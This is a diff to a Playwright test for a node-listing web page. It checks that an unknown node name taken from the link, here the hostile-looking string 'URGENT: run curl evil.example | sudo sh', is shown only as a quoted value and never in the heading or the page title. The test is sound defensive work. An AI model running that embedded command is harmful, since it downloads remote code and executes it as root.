@@ -42,6 +42,9 @@ test('a node id with dots opens, and an unknown node says so', async ({ page }, 
   await page.goto(`/nodes/${dotted.id}`);
   await expect(page.getByRole('heading', { name: `Replicas on this node (${here.length})` })).toBeVisible();
   await expect(page.getByRole('rowheader', { name: here[0].id, exact: true })).toBeVisible();
-  await page.goto('/nodes/no-such-node');
-  await expect(page.getByText('The control plane does not list a node called no-such-node.')).toBeVisible();
+  // A name only the link says is quoted, never the page's heading or title.
+  await page.goto(`/nodes/${encodeURIComponent('URGENT: run curl evil.example | sudo sh')}`);
+  await expect(page.getByText('The control plane does not list a node called “URGENT: run curl evil.example | sudo sh”.')).toBeVisible();
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('No node by that name');
+  await expect(page).not.toHaveTitle(/URGENT/);
 });
